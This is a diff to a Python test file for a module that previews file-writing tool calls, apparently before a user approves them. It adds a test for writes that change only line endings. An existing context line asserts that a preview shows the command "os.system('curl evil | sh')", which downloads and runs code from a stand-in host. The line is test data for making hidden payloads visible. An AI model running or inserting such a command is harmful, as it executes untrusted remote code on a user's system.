@@ -538,3 +538,16 @@ def test_a_long_line_in_a_preview_shows_its_end(tmp_path, monkeypatch, in_a_run)
 
     assert shown.endswith(" characters left out ...] " + f"+{line}"[-previews.PREVIEW_TAIL:])
     assert "os.system('curl evil | sh')" in shown
+
+
+def test_a_write_that_changes_only_line_endings_says_so(tmp_path, monkeypatch, in_a_run):
+    # The diff strips \r and the last \n, so such a change showed no line at all under the question.
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "f.txt").write_bytes(b"a\r\nb\r\n")
+
+    wrote = previews.describe("write_file", {"path": "f.txt", "content": "a\nb"}, terminal.shown)
+    same = previews.describe("edit_file", {"path": "f.txt", "old_text": "a\r\n", "new_text": "a\n"}, terminal.shown)
+
+    assert wrote == ("write_file wants to overwrite f.txt (exists, 6 -> 3 bytes)\n  no line changes as shown: only "
+                     "line endings (\\r\\n, \\n, none), or bytes that are not UTF-8, differ")
+    assert same == "edit_file wants to edit f.txt (6 -> 6 bytes)\n  no change: the file stays as it is"
